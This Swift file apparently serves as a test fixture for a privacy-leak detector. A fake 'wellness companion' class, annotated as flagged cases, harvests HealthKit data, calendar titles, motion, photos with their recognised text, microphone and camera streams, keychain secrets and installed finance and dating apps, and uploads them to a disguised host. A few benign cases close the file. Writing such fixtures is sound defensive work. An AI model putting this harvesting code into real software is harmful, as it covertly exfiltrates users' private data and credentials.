// A "wellness companion" SDK that harvests every sensor and store it can reach:
// HealthKit, photos (and text recognised in them), calendar, motion, microphone,
// camera, keychain items and the list of installed apps.
import AVFoundation
import CoreMotion
import EventKit
import HealthKit
import Photos
import Vision

final class WellnessCompanion: NSObject, AVCaptureVideoDataOutputSampleBufferDelegate {
    private let health = HKHealthStore()
    private let eventStore = EKEventStore()
    private let motionManager = CMMotionManager()
    private let engine = AVAudioEngine()
    private let upload = URL(string: "https://wellness-cdn-metrics.com/u")!

    func syncHeartRate(type: HKQuantityType) {
        let query = HKSampleQuery(sampleType: type, predicate: nil, limit: HKObjectQueryNoLimit, sortDescriptors: nil) { _, samples, _ in
            let readings = (samples as? [HKQuantitySample] ?? []).map { "\($0.quantity)@\($0.startDate)" }
            self.post(["hr": readings])
        }
        health.execute(query)
    }

    private func post(_ body: [String: Any]) {
        var request = URLRequest(url: upload)
        request.httpMethod = "POST"
        request.httpBody = try? JSONSerialization.data(withJSONObject: body) //~ data-upload/sensitive-data-to-network
        URLSession.shared.dataTask(with: request).resume()
    }

    func syncCalendar() {
        let predicate = eventStore.predicateForEvents(withStart: Date(), end: Date().addingTimeInterval(604_800), calendars: nil)
        let events = eventStore.events(matching: predicate)
        let titles = events.map { $0.title ?? "" }
        Analytics.logEvent("calendar", parameters: ["titles": titles.joined(separator: "|")]) //~ data-upload/sensitive-data-to-network
    }

    func syncMotion() {
        motionManager.startAccelerometerUpdates(to: .main) { data, _ in
            guard let sample = data else { return }
            AF.request(self.upload, method: .post, parameters: ["x": sample.acceleration.x]) //~ data-upload/sensitive-data-to-network
        }
    }

    func scanScreenshots() {
        let assets = PHAsset.fetchAssets(with: .image, options: nil)
        assets.enumerateObjects { asset, _, _ in
            PHImageManager.default().requestImage(for: asset, targetSize: CGSize(width: 512, height: 512), contentMode: .aspectFit, options: nil) { image, _ in
                guard let cgImage = image?.cgImage else { return }
                let textRequest = VNRecognizeTextRequest { request, _ in
                    let lines = (request.results as? [VNRecognizedTextObservation] ?? []).compactMap { $0.topCandidates(1).first?.string }
                    Segment.Analytics.shared().track(event: "ocr", properties: ["lines": lines]) //~ data-upload/sensitive-data-to-network
                }
                try? VNImageRequestHandler(cgImage: cgImage).perform([textRequest])
                AF.upload(image!.jpegData(compressionQuality: 0.5)!, to: self.upload) //~ data-upload/sensitive-data-to-network
            }
        }
    }

    func recordAmbientAudio() {
        let input = engine.inputNode
        input.installTap(onBus: 0, bufferSize: 4096, format: input.outputFormat(forBus: 0)) { buffer, _ in
            let frames = Data(bytes: buffer.floatChannelData![0], count: Int(buffer.frameLength) * 4)
            URLSession.shared.uploadTask(with: URLRequest(url: self.upload), from: frames).resume() //~ data-upload/sensitive-data-to-network
        }
        try? engine.start()
    }

    func captureOutput(_ output: AVCaptureOutput, didOutput sampleBuffer: CMSampleBuffer, from connection: AVCaptureConnection) {
        guard let pixels = CMSampleBufferGetImageBuffer(sampleBuffer) else { return }
        let frame = CIImage(cvPixelBuffer: pixels)
        let jpeg = CIContext().jpegRepresentation(of: frame, colorSpace: CGColorSpaceCreateDeviceRGB())
        URLSession.shared.uploadTask(with: URLRequest(url: upload), from: jpeg).resume() //~ data-upload/sensitive-data-to-network
    }

    func exportKeychain() {
        let query: [String: Any] = [kSecClass as String: kSecClassGenericPassword, kSecReturnData as String: true, kSecMatchLimit as String: kSecMatchLimitAll]
        var items: CFTypeRef?
        guard SecItemCopyMatching(query as CFDictionary, &items) == errSecSuccess else { return }
        let secrets = String(describing: items)
        var request = URLRequest(url: upload)
        request.setValue(secrets, forHTTPHeaderField: "X-Sync") //~ data-upload/sensitive-data-to-network
        URLSession.shared.dataTask(with: request).resume()
    }

    func probeInstalledApps() {
        let schemes = ["coinbase", "robinhood", "tinder", "grindr", "venmo", "paypal"]
        let installed = schemes.filter { scheme in
            UIApplication.shared.canOpenURL(URL(string: "\(scheme)://")!)
        }
        Mixpanel.mainInstance().registerSuperProperties(["apps": installed.joined(separator: ",")]) //~ data-upload/sensitive-data-to-network
    }

    // Silent: the step count feeds a ring on screen.
    func showSteps(_ ring: ProgressRing, pedometer: CMPedometer) {
        pedometer.queryPedometerData(from: Date().addingTimeInterval(-86_400), to: Date()) { data, _ in
            DispatchQueue.main.async {
                ring.progress = Double(truncating: data?.numberOfSteps ?? 0) / 10_000 // ok: steps drive an on-screen ring
            }
        }
    }

    // Silent: only the authorisation state is reported, not the data.
    func reportAuthorisation() {
        let status = PHPhotoLibrary.authorizationStatus(for: .readWrite)
        Analytics.logEvent("photos_auth", parameters: ["status": status.rawValue]) // ok: the photo permission state, not photos
    }

    // Silent: canOpenURL for the one app the user asked to open.
    func openMaps(_ url: URL) {
        if UIApplication.shared.canOpenURL(url) {
            UIApplication.shared.open(url) // ok: canOpenURL for the app the user asked to open
        }
    }
}
